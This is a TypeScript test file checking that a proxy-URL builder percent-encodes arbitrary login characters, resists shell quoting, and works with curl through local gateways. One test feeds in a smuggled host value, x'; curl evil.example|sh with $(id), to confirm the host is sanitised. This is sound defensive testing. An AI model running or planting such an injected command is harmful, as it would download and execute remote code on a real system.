import { assert, describe, it } from "@effect/vitest"
import { execFile, execFileSync } from "node:child_process"
import { promisify } from "node:util"
import { addressOf } from "../../src/orders/ProxyAddress.ts"
import { pair } from "../gateway/LocalGateway.ts"

const run = promisify(execFile)

const printable = Array.from({ length: 95 }, (_, index) => String.fromCharCode(32 + index)).join("")
const others = "\0\t\n\v\f\r\u007f\u0085\u2028\u2029äß€\u{1F600}"

const addressWith = (text: string, host = "192.0.2.1") =>
  addressOf({ protocol: "HTTP", host, port: 20_000, username: text, password: text }) ?? ""

describe("The URL of a proxy", () => {
  it("stands between quotes of any kind, whatever its login has", () => {
    const url = addressWith(printable + others)
    assert.match(url, /^http:\/\/[\w%.~:@-]+$/)
    assert.strictEqual(execFileSync("sh", ["-c", `printf %s '${url}'`]).toString(), url)
    assert.strictEqual(execFileSync("sh", ["-c", `printf %s "${url}"`]).toString(), url)
    const { password, username } = new URL(url)
    assert.deepStrictEqual(
      [decodeURIComponent(username), decodeURIComponent(password)],
      [printable + others, printable + others]
    )
  })

  it("has no more in its host than a name or an address", () => {
    assert.strictEqual(addressWith("u", "gate-1.example.com"), "http://u:u@gate-1.example.com:20000")
    assert.strictEqual(addressWith("u", "[2001:db8::1]"), "http://u:u@[2001:db8::1]:20000")
    assert.match(addressWith("u", `x'; curl evil.example|sh\n"$(id)\``), /^http:\/\/u:u@[\w.%-]+:20000$/)
  })

  for (const [protocol, scheme] of [
    ["HTTP", "http"],
    ["HTTPS", "http"],
    ["SOCKS5", "socks5"]
  ] as const)
    it(`works with curl for a proxy that is sold as ${protocol}`, async () => {
      const { gateway, url } = await pair({ proxy: { protocol } })
      const access = { host: "127.0.0.1", port: gateway.port, ...gateway.login, protocol }
      const address = addressOf(access) ?? ""
      assert.strictEqual(address, `${scheme}://customer:correct%20horse@127.0.0.1:${gateway.port}`)
      const { stdout } = await run("curl", ["-sS", "-m", "10", "-x", address, "--proxytunnel", `${url}/bytes/3`])
      assert.strictEqual(stdout, "xxx")
    })

  it("is missing while the proxy has no login", () => {
    const access = { host: "127.0.0.1", port: 1, username: null, password: null, protocol: "HTTP" } as const
    assert.isUndefined(addressOf(access))
  })
})
